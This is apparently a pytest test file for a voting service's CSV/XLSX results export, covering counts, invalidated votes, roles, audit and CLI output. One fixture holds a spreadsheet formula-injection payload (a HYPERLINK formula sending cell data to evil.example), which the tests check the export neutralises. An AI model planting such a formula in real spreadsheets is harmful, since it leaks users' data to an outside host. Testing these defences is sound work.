"""Results exports (CSV/XLSX) for the expert panel: valid votes only, exact counts that match
``/results``, neutralised formulas, the admin route and ``voting-service export``."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import re
import sys
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from tests.conftest import ADMIN, OPS, Harness, campaign_payload
from tests.integration.antifraud_support import NO_LIMITS, clients, drain, new_voter, problem_code
from voting_service.ledger import export
from voting_service.stack import settings_env

CID = "t2026"
EXPORT = f"/api/v1/admin/campaigns/{CID}/export"
RESULTS = f"/api/v1/admin/campaigns/{CID}/results"
SHEETS = ["排名", "按地区", "按行业", "按性别", "按推荐单位", "按事迹类型", "均衡", "按渠道",
          "按日期", "说明"]
BALLOTS = [  # one voter a line: c003 4 votes, c001 and c007 3 each (tied), c010 1
    ["c003", "c007", "c001", "c010"],
    ["c003", "c007", "c001"],
    ["c003", "c001", "c007"],
    ["c003"],
]
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


@pytest.fixture
def h(harness: Harness) -> Harness:
    return harness


async def cast(h: Harness, ballots: list[list[str]], ip: str = "203.0.113.7",
               **body: Any) -> None:
    async with clients(h, [ip]) as (client,):
        for ballot in ballots:
            token = await new_voter(client)
            for candidate in ballot:
                r = await client.post(f"/api/v1/campaigns/{CID}/votes",
                                      json={"candidate_id": candidate, **body},
                                      headers={"X-Voter-Token": token})
                assert r.status_code == 200, r.text


async def download(h: Harness, fmt: str, headers: dict[str, str] = ADMIN) -> httpx.Response:
    r = await h.client.get(EXPORT, params={"format": fmt}, headers=headers)
    assert r.status_code == 200, r.text
    assert re.fullmatch(rf'attachment; filename="{CID}-results-\d{{8}}-\d{{4}}\.{fmt}"',
                        r.headers["content-disposition"]), r.headers["content-disposition"]
    assert r.headers["content-type"] == export.MEDIA_TYPES[fmt]
    return r


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]
    text = body[3:].decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(export.RANKING_HEADER)
    return rows[1:]


def sheet(book: openpyxl.Workbook, title: str) -> list[tuple[Any, ...]]:
    ws = book[title]
    assert isinstance(ws, Worksheet)
    return list(ws.iter_rows(min_row=2, values_only=True))


def about(book: openpyxl.Workbook) -> dict[str, Any]:
    """The "about" sheet by the Chinese part of each label (the generated-at pair keeps
    its time zone)."""
    return {re.sub(r" [a-z ]+", "", str(k)): v for k, v in sheet(book, "说明")}


async def api_results(h: Harness) -> dict[str, Any]:
    r = await h.client.get(RESULTS, headers=OPS)
    assert r.status_code == 200, r.text
    found: dict[str, Any] = r.json()
    return found


async def test_csv_ranking_has_bom_crlf_and_exact_counts_in_rank_order(h: Harness) -> None:
    await h.create_campaign(rules=NO_LIMITS)
    await cast(h, BALLOTS)
    assert await drain(h) == 11
    rows = csv_rows((await download(h, "csv")).content)
    assert [(r[0], r[2], r[9], r[10]) for r in rows[:5]] == [
        ("1", "c003", "4", "36.36"), ("2", "c001", "3", "27.27"), ("2", "c007", "3", "27.27"),
        ("4", "c010", "1", "9.09"), ("5", "c002", "0", "0.00")]
    assert [r[2] for r in rows[4:]] == ["c002", "c004", "c005", "c006", "c008", "c009",
                                        "c011", "c012"]
    assert {r[0] for r in rows[4:]} == {"5"}
    assert rows[0][1:9] == ["3", "c003", "候选人3", "男", "南京市", "装备制造", "某公司", "钳工"]


async def test_xlsx_has_every_sheet_and_matches_results(h: Harness) -> None:
    await h.create_campaign(rules=NO_LIMITS, year=2031)  # the year it names, not the window's
    r = await h.client.post(f"/api/v1/admin/campaigns/{CID}/channels",
                            json={"id": "xinhua", "name": "新华网"}, headers=ADMIN)
    assert r.status_code == 201, r.text
    await cast(h, BALLOTS)
    await cast(h, [["c010", "c002"]], channel="xinhua")
    await drain(h)
    book = openpyxl.load_workbook(io.BytesIO((await download(h, "xlsx")).content))
    assert book.sheetnames == SHEETS
    api = await api_results(h)
    ranking = sheet(book, "排名")
    assert [(x[2], x[9]) for x in ranking] == [
        (c["candidate_id"], c["votes"]) for c in api["candidates"]]
    assert [x[0] for x in ranking[:4]] == [1, 2, 2, 4]
    assert ranking[0][10] == 30.77  # 4 of 13
    breakdowns = api["breakdowns"]
    for title, dim in (("按地区", "region"), ("按行业", "industry"), ("按性别", "gender")):
        assert {x[0]: x[2] for x in sheet(book, title)} == breakdowns[dim], title
    assert sum(x[1] for x in sheet(book, "按地区")) == 12  # candidates
    assert {x[0]: x[2] for x in sheet(book, "按渠道")} == breakdowns["channel"] == {
        "direct": 11, "xinhua": 2}
    assert [x[1] for x in sheet(book, "按渠道")] == ["直接访问", "新华网"]
    days = sheet(book, "按日期")
    assert {x[0].date().isoformat(): x[1] for x in days} == breakdowns["day"]
    assert days[-1][2] == api["total"] == 13
    facts = about(book)
    assert (facts["活动ID"], facts["活动名称"], facts["有效票总数"], facts["已作废票数"]) == (
        CID, "测试投票", 13, 0)
    assert facts["评选年度"] == 2031 and book.properties.subject.startswith("2031年度")
    assert "valid votes only" in facts["统计口径"]
    assert facts["与汇总表核对"].startswith("一致")
    local, utc = (dt.datetime.strptime(facts[f"生成时间({zone})"], "%Y-%m-%d %H:%M:%S")
                  for zone in ("Asia/Shanghai", "UTC"))
    assert local - utc == dt.timedelta(hours=8)
    assert abs(utc - dt.datetime.now(dt.UTC).replace(tzinfo=None)) < dt.timedelta(minutes=2)
    for title in SHEETS:
        ws = book[title]
        assert isinstance(ws, Worksheet)
        assert ws.freeze_panes == "A2" and ws["A1"].font.bold, title
        assert (ws.column_dimensions["A"].width or 0) >= 8, title


async def test_invalidated_votes_are_left_out(h: Harness) -> None:
    await h.create_campaign(rules=NO_LIMITS)
    await cast(h, BALLOTS)
    await cast(h, [["c012", "c011"]] * 5, ip="198.51.100.5")  # brushed, flushed
    await drain(h)
    await cast(h, [["c012"]] * 2, ip="198.51.100.6")  # brushed, not flushed yet
    rows = csv_rows((await download(h, "csv")).content)
    assert [(r[0], r[2], r[9]) for r in rows[:3]] == [
        ("1", "c011", "5"), ("1", "c012", "5"), ("3", "c003", "4")]

    r = await h.client.post(f"/api/v1/admin/campaigns/{CID}/invalidations",
                            json={"reason": "刷票", "ip": "198.51.100.0/24"}, headers=ADMIN)
    assert r.status_code == 201 and r.json()["votes_invalidated"] == 12, r.text
    await drain(h)
    rows = csv_rows((await download(h, "csv")).content)
    assert {r[2]: int(r[9]) for r in rows if r[9] != "0"} == {
        "c003": 4, "c001": 3, "c007": 3, "c010": 1}
    book = openpyxl.load_workbook(io.BytesIO((await download(h, "xlsx", OPS)).content))
    facts = about(book)
    assert (facts["有效票总数"], facts["已作废票数"]) == (11, 12)
    assert {x[2]: x[9] for x in sheet(book, "排名") if x[9]} == {
        c["candidate_id"]: c["votes"] for c in (await api_results(h))["candidates"] if c["votes"]}
    assert sum(x[1] for x in sheet(book, "按日期")) == 11
    assert await h.pg.fetchval("SELECT count(*) FROM votes") == 23, "nothing is deleted"


async def test_about_sheet_flags_removed_candidates_and_tally_drift(h: Harness) -> None:
    payload = await h.create_campaign(rules=NO_LIMITS)
    await cast(h, BALLOTS)
    await drain(h)
    kept = [c for c in payload["candidates"] if c["id"] != "c010"]
    r = await h.client.patch(f"/api/v1/admin/campaigns/{CID}", json={"candidates": kept},
                             headers=ADMIN)
    assert r.status_code == 409 and problem_code(r) == "candidate_has_votes", r.text
    # a candidate removed before removal was refused (data of an older release)
    await h.pg.execute("DELETE FROM candidates WHERE campaign_id = $1 AND id = 'c010'", CID)
    await h.pg.execute("UPDATE tallies SET votes = votes + 1 WHERE candidate_id = 'c003'")
    book = openpyxl.load_workbook(io.BytesIO((await download(h, "xlsx")).content))
    facts = about(book)
    assert (facts["有效票总数"], facts["已删除候选人的有效票（未计入）"]) == (10, 1)
    assert facts["与汇总表核对"].startswith("不一致")
    assert "c010" not in [x[2] for x in sheet(book, "排名")]
    assert sum(x[1] for x in sheet(book, "按日期")) == 10


async def test_formulas_in_candidate_fields_are_neutralised(h: Harness) -> None:
    payload = campaign_payload(candidates=3, rules=NO_LIMITS)
    payload["candidates"][0].update(name=EVIL, employer="+86 25 1234", occupation="@SUM(1)",
                                    region="-1+1", industry="\t=1")
    r = await h.client.post("/api/v1/admin/campaigns", json=payload, headers=ADMIN)
    assert r.status_code == 201, r.text
    await cast(h, [["c001"]])
    await drain(h)
    first = csv_rows((await download(h, "csv")).content)[0]
    assert first[2:9] == ["c001", "'" + EVIL, "男", "'-1+1", "'\t=1", "'+86 25 1234",
                          "'@SUM(1)"]
    book = openpyxl.load_workbook(io.BytesIO((await download(h, "xlsx")).content))
    ws = book["排名"]
    assert isinstance(ws, Worksheet)
    name = ws["D2"]
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL, "s", True)
    assert [ws.cell(2, c).data_type for c in range(1, 12)] == ["n", "n"] + ["s"] * 7 + ["n"] * 2
    region = book["按地区"]
    assert isinstance(region, Worksheet)
    assert "-1+1" in [c.value for c in region["A"]]


async def test_roles_errors_and_audit(h: Harness) -> None:
    await h.create_campaign()
    assert (await h.client.get(EXPORT)).status_code == 401
    assert (await download(h, "csv", OPS)).content.startswith(b"\xef\xbb\xbf")
    r = await h.client.get(EXPORT, headers=ADMIN)  # csv when no format is named
    assert r.headers["content-type"] == export.MEDIA_TYPES["csv"]
    r = await h.client.get(EXPORT, params={"format": "pdf"}, headers=ADMIN)
    assert (r.status_code, problem_code(r)) == (400, "invalid_request")
    r = await h.client.get("/api/v1/admin/campaigns/nope/export", params={"format": "xlsx"},
                           headers=ADMIN)
    assert (r.status_code, problem_code(r)) == (404, "campaign_not_found")
    audit = (await h.client.get("/api/v1/admin/audit", headers=ADMIN)).json()
    exports = [a for a in audit if a["action"] == "results.export"]
    assert [(a["actor"].split(":")[0], a["target"], a["request"]["format"])
            for a in exports] == [("admin", CID, "csv"), ("ops", CID, "csv")]
    assert exports[0]["request"]["file"].startswith(f"{CID}-results-")


async def run_cli(h: Harness, *args: str) -> tuple[int, bytes, str]:
    env = settings_env(h.settings)
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "voting_service.cli", "export", *args, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode is not None
    return proc.returncode, out, err.decode()


async def test_cli_export_writes_what_the_api_serves(h: Harness, tmp_path: Path) -> None:
    await h.create_campaign(rules=NO_LIMITS)
    await cast(h, BALLOTS)
    await drain(h)
    target = tmp_path / "结果.xlsx"
    (code_csv, out, err), (code_xlsx, _, err_xlsx), (code_bad, _, err_bad) = await asyncio.gather(
        run_cli(h),  # the only campaign, csv, stdout
        run_cli(h, "--campaign", CID, "--format", "xlsx", "--output", str(target)),
        run_cli(h, "--format", "xlsx"),
    )
    assert code_csv == 0, err
    assert out == (await download(h, "csv")).content
    assert code_xlsx == 0 and "11 valid votes" in err_xlsx, err_xlsx
    from_cli = openpyxl.load_workbook(target)
    from_api = openpyxl.load_workbook(io.BytesIO((await download(h, "xlsx")).content))
    assert from_cli.sheetnames == SHEETS
    for title in SHEETS[:-1]:
        assert sheet(from_cli, title) == sheet(from_api, title), title
    assert about(from_cli)["有效票总数"] == 11
    assert not list(tmp_path.glob(".*")), "no partial file left behind"
    assert code_bad != 0 and "--output" in err_bad
    audit = await h.pg.fetch("SELECT actor, request FROM audit_log"
                             " WHERE action = 'results.export' AND actor LIKE 'cli:%'")
    assert len(audit) == 2


def test_content_disposition_names_non_ascii_files_per_rfc_6266() -> None:
    assert export.content_disposition("t2026-results-20260901-0930.csv") == (
        'attachment; filename="t2026-results-20260901-0930.csv"')
    assert export.content_disposition("最美工匠 结果.xlsx") == (
        "attachment; filename=\"_______.xlsx\"; "
        "filename*=UTF-8''%E6%9C%80%E7%BE%8E%E5%B7%A5%E5%8C%A0%20%E7%BB%93%E6%9E%9C.xlsx")
